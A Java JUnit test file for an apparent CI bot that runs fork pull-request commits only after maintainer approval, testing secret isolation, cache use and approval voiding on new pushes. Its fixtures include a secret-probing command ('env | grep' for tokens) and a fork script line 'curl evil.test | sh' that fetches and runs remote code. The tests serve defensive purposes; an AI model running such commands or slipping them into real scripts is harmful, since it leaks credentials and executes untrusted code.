package dev.penv.story;

import static org.assertj.core.api.Assertions.assertThat;

import dev.penv.sandbox.hub.PullRequest;
import dev.penv.sandbox.hub.Role;
import dev.penv.world.World;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A fork's commit runs once, after a maintainer has let it. */
class ForkStory {
  @Test
  void approvedCommitRunsOnceWithoutSecretsAndFillsNoCache() throws IOException {
    try (var world = openToForks()) {
      var pull = Threads.ofFork(world, "env | grep -ci -e token -e secret -e ghs_\n");
      ask(world, pull, "ada", "/run train gpu=t4");
      ask(world, pull, "ada", approval(pull));
      ask(world, pull, "bob", approval(pull));
      ask(world, pull, "ada", "/run train gpu=t4");
      ask(world, pull, "ada", "/run train");
      ask(world, pull, "ada", "/run train");
      ask(world, pull, "ada", "/rerun");
      Expected.toBe("fork-approved.md", world.thread(pull));
      assertThat(cached(world)).isEmpty();
      world.comment("ada", "/run train epochs=1");
      world.settle();
      assertThat(cached(world)).isNotEmpty();
    }
  }

  @Test
  void approvalAndRunStandInOneComment() {
    try (var world = openToForks()) {
      var pull = Threads.ofFork(world);
      ask(world, pull, "bob", approval(pull) + "\n\n/run train epochs=2 dry");
      Expected.toBe("fork-one-comment.md", world.thread(pull));
    }
  }

  @Test
  void pushMakesTheApprovalVoid() {
    try (var world = openToForks()) {
      var pull = Threads.ofFork(world);
      ask(world, pull, "bob", approval(pull));
      var line = approval(pull);
      var fork = pull.headRepository().orElseThrow();
      var changed = Map.of("train.sh", "curl evil.test | sh\n");
      world.name("LATER", fork.commit("evil", changed, "Improve it more"));
      world.clock().skip(Duration.ofSeconds(1));
      world.settle();
      ask(world, pull, "ada", "/run train");
      ask(world, pull, "bob", line);
      Expected.toBe("fork-pushed.md", world.thread(pull));
    }
  }

  @Test
  void otherBotsApproveElsewhere() {
    try (var world = openToForks()) {
      ask(world, world.pull(), "bob", "/approve");
      ask(world, world.pull(), "bob", approval(world.pull()));
      ask(world, world.pull(), "bob", "/penv approve " + world.pull().head());
      Expected.toBe("fork-none.md", world.thread());
    }
  }

  /** Objects that runs of the repository share. */
  private static List<Path> cached(World world) throws IOException {
    try (var all = Files.walk(world.data().resolve("local/caches"))) {
      return all.filter(path -> path.endsWith("objects.git")).toList();
    }
  }

  private static World openToForks() {
    var world = World.open();
    var bob = world.sandbox().user("bob");
    var rules = Map.of(".github/penv.yml", "forks: approve\n");
    world.repository().collaborator(bob, Role.MAINTAIN);
    world.name("RULES", world.repository().commit("main", rules, "Let forks run"));
    world.settle();
    return world;
  }

  private static String approval(PullRequest pull) {
    return "/approve " + pull.head();
  }

  private static void ask(World world, PullRequest pull, String who, String text) {
    world.comment(pull, who, text);
    world.settle();
  }
}
